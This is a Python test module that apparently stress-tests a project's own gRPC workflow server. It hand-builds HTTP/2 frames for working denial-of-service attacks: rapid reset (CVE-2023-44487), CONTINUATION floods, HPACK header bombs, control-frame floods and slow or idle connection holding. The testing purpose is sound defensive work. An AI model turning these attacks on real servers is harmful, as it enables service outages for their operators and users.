"""An attacker on the gRPC port: runs one of the attacks below, from one machine, for some seconds.

Run as `python -m tests.interop.attacks.grpc_attacker JSON`; the JSON has `kind`, `address`, `port`, `seconds`, and
optionally `connections` (at once), `tls` with `certificate` and `key`, and `local` (our own addresses, used in turn).
Closed connections are reopened. Prints as JSON the numbers of opened connections, of those that the server closed, and
of sent bytes.

HTTP/2 frames (RFC 9113) and header blocks (RFC 7541) are built by hand, since no library would send them. The
first header block of a connection adds its four long fields to the receiver's table, and `AGAIN` names them by their
numbers there. That request has 15 bytes and is the cheapest one for its sender.
"""

from __future__ import annotations

import itertools
import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
WORKFLOWS = "internal.proto.workflow.v2.WorkflowService"
OLDER = "proto.WorkflowService"
_LAST_STREAM = 2**31 - 1
_CHUNK = 1000
_PAUSE = 0.05
"""Seconds between a refused or closed connection and the next attempt."""

# --- sent pieces of bytes; after the last one, the connection stays open ----------------------------------------------

Pieces = Iterator[bytes]
Rest = Callable[[int], bytes]
"""Returns the bytes that follow the headers of a request, by the number of its stream."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    """Encode a string without Huffman coding; its length is an integer with a prefix of seven bits."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    length, rest = bytearray((127,)), len(value) - 127
    while rest >= 128:
        length.append(rest % 128 | 128)
        rest //= 128
    return bytes((*length, rest)) + value


def message(body: bytes) -> bytes:
    """Encode an uncompressed gRPC message."""
    return b"\0" + len(body).to_bytes(4, "big") + body


def block(service: str, method: str) -> bytes:
    """Encode the headers of a call, with entries for the receiver's table."""
    path = text(f"/{service}/{method}".encode())
    te = text(b"te") + text(b"trailers")
    return b"\x83\x86\x44" + path + b"\x41" + text(b"attack") + b"\x40" + te + b"\x5f" + text(b"application/grpc")


AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"
"""The same headers once more; with one more field in the table, that one is `\xbe` and the others one further."""
AGAIN_WITH = b"\x83\x86\xc2\xc1\xc0\xbf"
GET_WORKFLOWS = block(WORKFLOWS, "GetWorkflows")
LARGE = text(b"y" * 3800)
UNACKNOWLEDGED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
"""The limit of a header block does not bind a client that has not acknowledged it (RFC 9113 section 6.5.3)."""
PREFACE = UNACKNOWLEDGED + frame(SETTINGS, ACK, 0)
"""Acknowledges the server's settings before they have arrived."""


def _streams(first: bytes, again: bytes, rest: Rest, most: int = _LAST_STREAM) -> Pieces:
    """Yield requests, each followed by `rest(stream)`."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, first) + rest(1)
    head = len(again).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS))
    for begin in range(3, 2 * most, 2 * _CHUNK):
        streams = range(begin, min(begin + 2 * _CHUNK, 2 * most), 2)
        yield b"".join(head + struct.pack(">I", stream) + again + rest(stream) for stream in streams)


def _calls(service: str, method: str, rest: Rest, most: int = _LAST_STREAM) -> Callable[[], Pieces]:
    return lambda: _streams(block(service, method), AGAIN, rest, most)


def _reset(stream: int) -> bytes:
    return frame(RESET, 0, stream, struct.pack(">I", 8))  # CANCEL


def _no_body(_stream: int) -> bytes:
    return b""


def _complete_request(body: bytes) -> Rest:
    return lambda stream: frame(DATA, END_STREAM, stream, message(body))


def _open(body: bytes) -> Rest:
    """Return a message after which the stream stays open."""
    return lambda stream: frame(DATA, 0, stream, message(body))


_asks_for_x = _complete_request(b"\x0a\x01x")
"""A whole request for a machine that does not exist."""


def _endless(piece: bytes, opening: bytes = b"") -> Callable[[], Pieces]:
    return lambda: itertools.chain([PREFACE + opening], itertools.repeat(piece))


def _indexed_bomb() -> Pieces:
    """Yield a header block of 16 kB that expands to 60 MB."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS + b"\x40" + text(b"x") + LARGE)
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS, stream, AGAIN_WITH + b"\xbe" * 16_000)


def _resting_bomb() -> Pieces:
    """Send 84 kB that expand to 300 MB, as a client that acknowledges no limit; then stay silent."""
    first = GET_WORKFLOWS + b"\x40" + text(b"x" * 3800) + text(b"")
    bombs = (frame(HEADERS, END_HEADERS, stream, AGAIN_WITH + b"\xbe" * 4_000) for stream in range(3, 43, 2))
    yield UNACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, first) + b"".join(bombs)


def _slow_bodies() -> Pieces:
    """Yield messages byte by byte."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "PublishEvent"))
    yield b"".join(frame(HEADERS, END_HEADERS, stream, AGAIN) for stream in range(3, 200, 2))
    for index in itertools.count():
        body = message(bytes(100_000))[index : index + 1]
        time.sleep(1)
        yield b"".join(frame(DATA, 0, stream, body) for stream in range(1, 200, 2))


_A_CALL = frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS)
_MORE_HEADERS = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
KINDS: dict[str, Callable[[], Pieces]] = {
    # CVE-2023-44487: each request is cancelled at once, or after the whole of it has arrived.
    "rapid_reset": _calls(WORKFLOWS, "GetWorkflows", _reset),
    "reset_after_message": _calls(WORKFLOWS, "GetWorkflows", lambda stream: _asks_for_x(stream) + _reset(stream)),
    # Whole requests: of agents, of tink-agent, of tink-worker v0.8; a report that mixes two dialects.
    "calls": _calls(WORKFLOWS, "GetWorkflows", _asks_for_x),
    "polls": _calls(OLDER, "GetAction", _asks_for_x),
    "contexts": _calls(
        "github.com.tinkerbell.tink.protos.workflow.WorkflowService", "GetWorkflowContexts", _asks_for_x
    ),
    "reports": _calls(OLDER, "ReportActionStatus", _complete_request(b"\x0a\x01x\x20\x04\x22\x7fx")),
    "unknown_method": _calls("no.such", "Method", _complete_request(b"")),
    # Calls without a message, or that stay open after their message.
    "unended": _calls(WORKFLOWS, "GetWorkflows", _no_body, 20_000),
    "unended_polls": _calls(OLDER, "GetAction", _no_body, 20_000),
    "outputs": _calls("tinkedge.output.v1.OutputService", "WriteOutput", _no_body, 20_000),
    "watches": _calls("grpc.health.v1.Health", "Watch", _complete_request(b""), 20_000),
    "reflections": _calls(
        "grpc.reflection.v1alpha.ServerReflection", "ServerReflectionInfo", _open(b"\x3a\x00"), 20_000
    ),
    # The maximum of metadata, from the receiver's table, so that it costs the sender nothing.
    "metadata": lambda: _streams(
        GET_WORKFLOWS + b"\x40" + text(b"x-large") + LARGE, AGAIN_WITH + b"\xbe" * 2, _no_body, 20_000
    ),
    # An endless header block (CVE-2024-27316).
    "continuations": _endless(_MORE_HEADERS * 10, frame(HEADERS, 0, 1, GET_WORKFLOWS)),
    "indexed_bomb": _indexed_bomb,
    "resting_bomb": _resting_bomb,
    "pings": _endless(frame(PING, 0, 0, b"attacker") * _CHUNK),
    "settings": _endless(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK),
    "windows": _endless(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK, _A_CALL),
    "empty_data": _endless(frame(DATA, 0, 1) * _CHUNK, _A_CALL),
    "slow_bodies": _slow_bodies,
    "idle": lambda: iter([b""]),
    "preface": lambda: iter([PREFACE]),
    "half_handshake": lambda: iter([bytes.fromhex("16030102000100")]),
}

# --- connections ------------------------------------------------------------------------------------------------------


@dataclass
class Attack:
    """An attack. With `churn`, each connection is closed after its first piece and opened again."""

    kind: str
    address: str
    port: int
    seconds: float
    connections: int = 1
    tls: bool = False
    churn: bool = False
    certificate: str = ""
    key: str = ""
    local: list[str] = field(default_factory=list)
    made: int = 0
    refused: int = 0
    closed: int = 0
    sent: int = 0

    def run(self) -> None:
        self._end = time.monotonic() + self.seconds
        self._turn = itertools.cycle(self.local or [""])
        if self.kind in ("idle", "preface", "half_handshake") and not self.churn:
            self._hold()
            return
        threads = [threading.Thread(target=self._reconnect_continuously) for _ in range(self.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _connect(self) -> socket.socket | None:
        family = socket.AF_INET6 if ":" in self.address else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        try:
            sock.settimeout(2)
            if local := next(self._turn):
                sock.bind((local, 0))
            sock.connect((self.address, self.port))
            if self.tls:
                sock = self._tls_context().wrap_socket(sock)
        except OSError:
            self.refused += 1
            sock.close()
            return None
        self.made += 1
        return sock

    def _tls_context(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context

    def _hold(self) -> None:
        """Open as many connections as possible and keep them open."""
        open_sockets: list[socket.socket] = []
        opening = next(KINDS[self.kind]())
        poll = select.poll()
        while time.monotonic() < self._end:
            while len(open_sockets) < self.connections and time.monotonic() < self._end:
                sock = self._connect()
                if sock is None:
                    break
                sock.sendall(opening)
                self.sent += len(opening)
                open_sockets.append(sock)
                poll.register(sock, select.POLLRDHUP | select.POLLHUP)
            closed_handles = {handle for handle, _ in poll.poll(50)}
            self.closed += len(closed_handles)
            for sock in [each for each in open_sockets if each.fileno() in closed_handles]:
                poll.unregister(sock)
                open_sockets.remove(sock)
                sock.close()
        print(json.dumps({"held": len(open_sockets)}), file=sys.stderr)

    def _reconnect_continuously(self) -> None:
        while time.monotonic() < self._end:
            sock = self._connect()
            if sock is not None:
                with sock:
                    self._speak(sock)
            if not self.churn:
                time.sleep(_PAUSE)

    def _speak(self, sock: socket.socket) -> None:
        """Send all pieces, then stay silent until the server closes the connection or the time is over."""
        sock.settimeout(0.02)
        try:
            for piece in KINDS[self.kind]():
                view = memoryview(piece)
                while view:
                    self._drain(sock)
                    if time.monotonic() > self._end:
                        return
                    try:
                        count = sock.send(view)
                    except TimeoutError:
                        continue
                    view = view[count:]
                    self.sent += count
                if self.churn:
                    return
            while time.monotonic() < self._end:
                self._drain(sock)
                time.sleep(0.02)
        except OSError:
            self.closed += 1

    def _drain(self, sock: socket.socket) -> None:
        """Discard the received bytes. Raises ConnectionResetError at the end of the connection."""
        while select.select([sock], [], [], 0)[0]:
            try:
                if not sock.recv(1 << 16):
                    raise ConnectionResetError
            except (TimeoutError, ssl.SSLWantReadError):
                return


def main(arguments: dict[str, Any]) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = Attack(**arguments)
    attack.run()
    print(json.dumps({key: getattr(attack, key) for key in ("made", "refused", "closed", "sent")}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
